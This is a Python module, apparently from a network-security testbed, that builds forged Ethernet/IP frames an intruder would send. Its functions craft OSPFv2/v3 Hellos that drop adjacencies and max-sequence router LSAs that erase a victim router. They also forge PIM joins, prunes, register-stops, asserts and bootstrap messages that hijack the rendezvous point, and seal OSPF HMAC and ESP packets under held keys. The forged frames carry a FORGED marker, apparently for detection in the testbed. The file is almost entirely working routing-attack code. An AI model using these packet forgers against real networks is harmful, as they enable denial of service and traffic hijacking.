"""Frames as an intruder makes them: OSPF, PIM and UDP over IP over Ethernet, and ESP under a key that he has.

Pure. Knows nothing of nodes or sockets. What it makes bears the IP identification `FORGED`, of IPv6 the flow label,
which the transport mode of ESP leaves as it is: so a listener at a router can tell it from what routers send.
"""

from __future__ import annotations

import hashlib
import hmac
import os
import struct
from collections.abc import Callable
from ipaddress import IPv4Address, IPv4Interface, IPv6Address
from typing import NamedTuple

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from agents.ipsec.model import SecurityAssociation

FORGED, REPLAYED = 0xBAD0, 0xBAD1
"""The second one of IPv6 alone: two of its packets that say the same cannot be told apart otherwise."""
STRANGER_MAC = "02:66:00:00:00:01"
OSPF, PIM, UDP, ESP = 89, 103, 17, 50
ALL_OSPF, ALL_PIM = IPv4Address("224.0.0.5"), IPv4Address("224.0.0.13")
ALL_OSPF6 = IPv6Address("ff02::5")
_OPTIONS6 = 0x13
"""V6, E and R: a router of IPv6 in a normal area (RFC 5340, A.2)."""
_APAD, _SHA256_OCTETS = bytes.fromhex("878fe1f3"), 32
"""RFC 5709, section 3.3."""
_ETHERNET, _HEAD, _HEAD6 = 14, 14 + 20, 14 + 40
"""Octets of an Ethernet header, and of one with that of IPv4 or IPv6."""
_IPV6 = b"\x86\xdd"
Address = IPv4Address | IPv6Address


class Opened(NamedTuple):
    """What a frame holds: the IP protocol, where its octets begin, and the sender's address."""

    protocol: int
    at: int
    source: bytes


def opened(data: bytes) -> Opened | None:
    """A frame's IP header, read as far as is needed; None for one that is too short."""
    if data[12:14] == _IPV6:
        return Opened(data[20], _HEAD6, data[22:38]) if len(data) >= _HEAD6 else None
    return Opened(data[23], _HEAD, data[26:30]) if len(data) >= _HEAD else None


def head_octets(family: int) -> int:
    """Of an Ethernet frame before what IP carries."""
    return _HEAD if family == 4 else _HEAD6


def internet_checksum(data: bytes) -> int:
    """RFC 1071."""
    padded = data + bytes(len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def multicast_mac(group: Address) -> str:
    """RFC 1112, section 6.4; RFC 2464, section 7."""
    if group.version == 6:
        return "33:33:" + group.packed[-4:].hex(":")
    low = int(group) & 0x7FFFFF
    return f"01:00:5e:{low >> 16:02x}:{low >> 8 & 255:02x}:{low & 255:02x}"


def frame(
    source: Address, destination: Address, protocol: int, body: bytes, *, mac: str | None = None, ttl: int = 1
) -> bytes:
    """An Ethernet frame with one IP packet. `mac`: of a unicast destination."""
    to = mac or multicast_mac(destination)
    ethernet = bytes.fromhex(to.replace(":", "") + STRANGER_MAC.replace(":", ""))
    if source.version == 6:
        header = struct.pack("!IHBB", 6 << 28 | 0xC0 << 20 | FORGED, len(body), protocol, ttl)
        return summed(ethernet + _IPV6 + header + source.packed + destination.packed + body)
    ethernet += b"\x08\x00"
    length = 20 + len(body)
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0xC0, length, FORGED, 0, ttl, protocol, 0, source.packed, destination.packed
    )
    return summed(ethernet + header + body)


def summed(data: bytes) -> bytes:
    """The frame with the checksum that its IPv4 header needs, or UDP over IPv6 (RFC 8200, section 8.1)."""
    if data[12:14] == _IPV6:
        if data[20] != UDP:
            return data
        body = data[_HEAD6 : _HEAD6 + 6] + bytes(2) + data[_HEAD6 + 8 :]
        checksum = checksum6(IPv6Address(data[22:38]), IPv6Address(data[38:54]), UDP, body) or 0xFFFF
        return data[: _HEAD6 + 6] + checksum.to_bytes(2, "big") + data[_HEAD6 + 8 :]
    header = bytearray(data[14:_HEAD])
    header[10:12] = bytes(2)
    header[10:12] = internet_checksum(bytes(header)).to_bytes(2, "big")
    return data[:14] + bytes(header) + data[_HEAD:]


def checksum6(source: IPv6Address, destination: IPv6Address, protocol: int, body: bytes) -> int:
    """With the pseudo-header of RFC 8200, section 8.1."""
    return internet_checksum(source.packed + destination.packed + struct.pack("!II", len(body), protocol) + body)


def relabelled(data: bytes, label: int) -> bytes:
    """An IPv6 frame with another flow label."""
    first = int.from_bytes(data[14:18], "big") & ~0xFFFFF | label
    return data[:14] + first.to_bytes(4, "big") + data[18:]


def udp(source_port: int, port: int, data: bytes) -> bytes:
    """A UDP datagram without a checksum, which IPv4 allows; `frame` gives it one over IPv6."""
    return struct.pack("!HHHH", source_port, port, 8 + len(data), 0) + data


def _ospf(kind: int, router_id: IPv4Address, area: str, body: bytes) -> bytes:
    head = struct.pack("!BBH4s4s", 2, kind, 24 + len(body), router_id.packed, IPv4Address(area).packed)
    checksum = internet_checksum(head + bytes(4) + body)
    return head + struct.pack("!HH8s", checksum, 0, b"") + body


def ospf_hello(router_id: IPv4Address, address: IPv4Interface, area: str, hello_s: int, dead_s: int) -> bytes:
    """A Hello that has heard of nobody (RFC 2328, A.3.2): whoever believes it takes the adjacency down."""
    body = address.netmask.packed + struct.pack("!HBBI", hello_s, 0x02, 0, dead_s) + bytes(8)
    return _ospf(1, router_id, area, body)


def ospf_update(router_id: IPv4Address, area: str, victim: IPv4Address) -> bytes:
    """An LS Update with a router LSA in the victim's name: no links, and the highest sequence number there is
    (RFC 2328, A.4.2 and 12.1.6). Whoever believes it takes the victim out of the network."""
    content = struct.pack("!HBB4s4sI", 0, 0x02, 1, victim.packed, victim.packed, 0x7FFFFFFF)
    rest = struct.pack("!HH", 24, 0)
    lsa = bytearray(content + struct.pack("!HH", 0, 20 + len(rest)) + rest)
    lsa[16:18] = fletcher(bytes(lsa[2:]), 14)
    return _ospf(4, router_id, area, struct.pack("!I", 1) + bytes(lsa))


def _ospf6(kind: int, router_id: IPv4Address, area: str, body: bytes, source: IPv6Address) -> bytes:
    head = struct.pack("!BBH4s4sHBB", 3, kind, 16 + len(body), router_id.packed, IPv4Address(area).packed, 0, 0, 0)
    checksum = checksum6(source, ALL_OSPF6, OSPF, head + body)
    return head[:12] + checksum.to_bytes(2, "big") + head[14:] + body


def ospf6_hello(router_id: IPv4Address, source: IPv6Address, area: str, hello_s: int, dead_s: int) -> bytes:
    """The same of OSPFv3 (RFC 5340, A.3.2), from this address to all routers."""
    body = struct.pack("!IIHHII", 1, _OPTIONS6, hello_s, dead_s, 0, 0)
    return _ospf6(1, router_id, area, body, source)


def ospf6_update(router_id: IPv4Address, source: IPv6Address, area: str, victim: IPv4Address) -> bytes:
    """The same of OSPFv3 (RFC 5340, A.4.3): a router LSA has link state ID 0."""
    lsa = bytearray(struct.pack("!HH4s4sI", 0, 0x2001, bytes(4), victim.packed, 0x7FFFFFFF))
    lsa += struct.pack("!HHI", 0, 24, _OPTIONS6)
    lsa[16:18] = fletcher(bytes(lsa[2:]), 14)
    return _ospf6(4, router_id, area, struct.pack("!I", 1) + bytes(lsa), source)


def hello(router_id: IPv4Address, source: IPv4Interface | IPv6Address, area: str, hello_s: int, dead_s: int) -> bytes:
    """A Hello of OSPFv2 or of OSPFv3, whichever is spoken from such an address."""
    if isinstance(source, IPv6Address):
        return ospf6_hello(router_id, source, area, hello_s, dead_s)
    return ospf_hello(router_id, source, area, hello_s, dead_s)


def update(router_id: IPv4Address, source: Address, area: str, victim: IPv4Address) -> bytes:
    """An LS Update of either, in the same way."""
    if isinstance(source, IPv6Address):
        return ospf6_update(router_id, source, area, victim)
    return ospf_update(router_id, area, victim)


def all_ospf(family: int) -> Address:
    """The group of all its routers."""
    return ALL_OSPF if family == 4 else ALL_OSPF6


def ospf_signed(packet: bytes, key_id: int, key: bytes, sequence: int) -> bytes:
    """An OSPF packet under cryptographic authentication, HMAC-SHA-256 (RFC 5709, section 3.3). ValueError for a key of
    more octets than the hash has."""
    if len(key) > _SHA256_OCTETS:
        raise ValueError(f"a key of {len(key)} octets; HMAC-SHA-256 of OSPF takes {_SHA256_OCTETS} as they are")
    head = packet[:12] + struct.pack("!HHHBBI", 0, 2, 0, key_id, _SHA256_OCTETS, sequence & 0xFFFFFFFF)
    covered = head + packet[24:]
    return covered + hmac.new(key, covered + _APAD * (_SHA256_OCTETS // len(_APAD)), hashlib.sha256).digest()


def ospf_sequence(packet: bytes) -> int:
    """The cryptographic sequence number of an OSPF packet; 0 when it is authenticated otherwise."""
    return int.from_bytes(packet[20:24], "big") if packet[14:16] == b"\x00\x02" else 0


def fletcher(data: bytes, offset: int) -> bytes:
    """The two octets at `offset` (zero in `data`) that make an LSA's checksum right (RFC 905, annex B)."""
    c0 = c1 = 0
    for octet in data:
        c0 = (c0 + octet) % 255
        c1 = (c1 + c0) % 255
    x = ((len(data) - offset - 1) * c0 - c1) % 255 or 255
    y = (510 - c0 - x) % 255 or 255
    return bytes([x, y])


def pim_hello(holdtime_s: int = 105) -> bytes:
    """RFC 7761, section 4.9.2: hold time, and a generation ID that is new."""
    options = struct.pack("!HHH", 1, 2, holdtime_s) + struct.pack("!HHI", 20, 4, 0xBAD0BAD0)
    return _pim(0, options)


def pim_join(upstream: IPv4Address, group: IPv4Address, source: IPv4Address, *, prune: bool = False) -> bytes:
    """RFC 7761, section 4.9.5: one (S,G) join to `upstream`, or with `prune` a prune."""
    body = _unicast(upstream) + struct.pack("!BBH", 0, 1, 210)
    body += _group(group) + struct.pack("!HH", not prune, prune) + b"\x01\x00\x04\x20" + source.packed
    return _pim(3, body)


def pim_register(source: IPv4Address, group: IPv4Address) -> bytes:
    """RFC 7761, section 4.9.3: a packet from the source to the group for the rendezvous point. The checksum covers the
    first eight octets alone."""
    data = udp(6666, 6666, b"forged")
    inner = frame(source, group, UDP, data, ttl=64)[14:]
    return _pim(1, bytes(4) + inner, summed_octets=4)


def pim_register_stop(source: IPv4Address, group: IPv4Address) -> bytes:
    """RFC 7761, section 4.9.4: the source's first-hop router is to register it no more."""
    return _pim(2, _group(group) + _unicast(source))


def pim_bootstrap(router: IPv4Address, group: IPv4Address, point: IPv4Address) -> bytes:
    """RFC 5059, section 4.1: by the bootstrap router of the highest priority, `point` is the group's rendezvous
    point."""
    body = struct.pack("!HBB", 0xBAD0, 30, 255) + _unicast(router)
    body += _group(group) + struct.pack("!BBH", 1, 1, 0) + _unicast(point) + struct.pack("!HBB", 150, 0, 0)
    return _pim(4, body)


def pim_assert(source: IPv4Address, group: IPv4Address) -> bytes:
    """RFC 7761, section 4.9.6: nobody has a better path to the source than the sender."""
    return _pim(5, _group(group) + _unicast(source) + struct.pack("!II", 0, 0))


def _unicast(address: IPv4Address) -> bytes:
    return b"\x01\x00" + address.packed


def _group(group: IPv4Address) -> bytes:
    return b"\x01\x00\x00\x20" + group.packed


def _pim(kind: int, body: bytes, summed_octets: int | None = None) -> bytes:
    head = bytes([0x20 | kind, 0])
    return head + internet_checksum(head + bytes(2) + body[:summed_octets]).to_bytes(2, "big") + body


def esp(
    sa: SecurityAssociation, sequence: int, protocol: int, payload: bytes, octets: Callable[[int], bytes] = os.urandom
) -> bytes:
    """What the holder of an SA's keys sends: AES-CBC with HMAC-SHA-256 cut to 128 bits (RFC 3602, RFC 4868).

    ValueError for another transform.
    """
    cipher, integrity = sa.encryption, sa.integrity
    if cipher is None or integrity is None or cipher.name != "cbc(aes)" or integrity.name != "hmac(sha256)":
        raise ValueError(f"{sa}: an intruder's ESP is AES-CBC with HMAC-SHA-256 only")
    padding = -(len(payload) + 2) % 16
    plain = payload + bytes(range(1, padding + 1)) + bytes([padding, protocol])
    vector = octets(16)
    sealing = Cipher(algorithms.AES(cipher.key), modes.CBC(vector)).encryptor()
    packet = struct.pack("!II", sa.spi, sequence & 0xFFFFFFFF) + vector + sealing.update(plain) + sealing.finalize()
    high = struct.pack("!I", sequence >> 32) if sa.esn else b""
    return packet + hmac.new(integrity.key, packet + high, hashlib.sha256).digest()[: (integrity.icv_bits or 128) // 8]
